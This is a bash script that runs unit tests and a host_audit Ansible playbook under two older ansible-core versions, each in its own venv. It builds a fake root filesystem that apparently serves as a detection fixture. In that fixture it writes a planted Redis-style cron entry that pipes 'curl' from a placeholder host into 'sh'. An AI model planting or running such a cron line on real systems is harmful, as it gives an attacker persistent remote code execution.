#!/usr/bin/env bash
# requires_ansible is honest: the unit suite and one host_audit playbook run on each older
# supported ansible-core, each in its own venv under .cache/ (built once, from PyPI).
#   scripts/compat.sh            2.15 and 2.17, side by side
#   scripts/compat.sh 2.15       one of them
set -euo pipefail
REPO="$(cd "$(dirname "$0")/.." && pwd)"
PYTHON="${PYTHON:-/usr/bin/python3}"
VERSIONS=("$@"); [ ${#VERSIONS[@]} -gt 0 ] || VERSIONS=(2.15 2.17)
PYTEST=$(awk -F'==' '/^pytest==/ {print $2}' "$REPO/requirements-dev.txt")
HYPOTHESIS=$(awk -F'==' '/^hypothesis==/ {print $2}' "$REPO/requirements-dev.txt")
JSONSCHEMA=$(awk -F'==' '/^jsonschema==/ {print $2}' "$REPO/requirements-dev.txt")

one() {
  local v=$1 venv="$REPO/.cache/venv-core-$1" log="$REPO/.cache/compat-$1.log" root
  if [ ! -x "$venv/bin/ansible-playbook" ]; then
    "$PYTHON" -m venv "$venv"
    "$venv/bin/pip" install --disable-pip-version-check -q "ansible-core==$v.*" "pytest==$PYTEST" \
      "jsonschema==$JSONSCHEMA" ${HYPOTHESIS:+"hypothesis==$HYPOTHESIS"}
  fi
  root=$(mktemp -d "/tmp/hg-compat-$v-XXXXXX")
  mkdir -p "$root/etc" "$root/var/spool/cron"
  echo "root:x:0:0:root:/root:/bin/sh" > "$root/etc/passwd"
  printf 'REDIS0009\xfa\tredis-ver\x057.0.15\n*/1 * * * * curl -fsSL http://x.invalid/a | sh\n' > "$root/var/spool/cron/root"
  local rc=0
  {
    echo "== ansible-core $("$venv/bin/python" -c "import ansible.release as r; print(r.__version__)")"
    rm -rf "$REPO/.cache/pytest-core-$v" && mkdir -p "$REPO/.cache"
    ( cd "$REPO" && "$venv/bin/python" -m pytest -q -p no:cacheprovider --basetemp="$REPO/.cache/pytest-core-$v" tests/unit ) &&
    ( cd "$REPO" && HG_COMPAT_ROOT="$root" ANSIBLE_PYTHON_INTERPRETER="$venv/bin/python" \
        "$venv/bin/ansible-playbook" -i localhost, -c local tests/compat/host_audit.yml )
  } > "$log" 2>&1 || rc=$?
  rm -rf "$root"
  { head -n 1 "$log"; grep -E "^[0-9]+ (passed|failed)|(passed|failed).* in [0-9.]+s" "$log" | tail -n 1
    grep -A1 "^PLAY RECAP" "$log" | tail -n 1; } | sed "s/^/[core $v] /"
  [ $rc -eq 0 ] || echo "[core $v] FAILED: see $log"
  return $rc
}

pids=()
for v in "${VERSIONS[@]}"; do one "$v" & pids+=($!); done
status=0
for p in "${pids[@]}"; do wait "$p" || status=1; done
exit $status
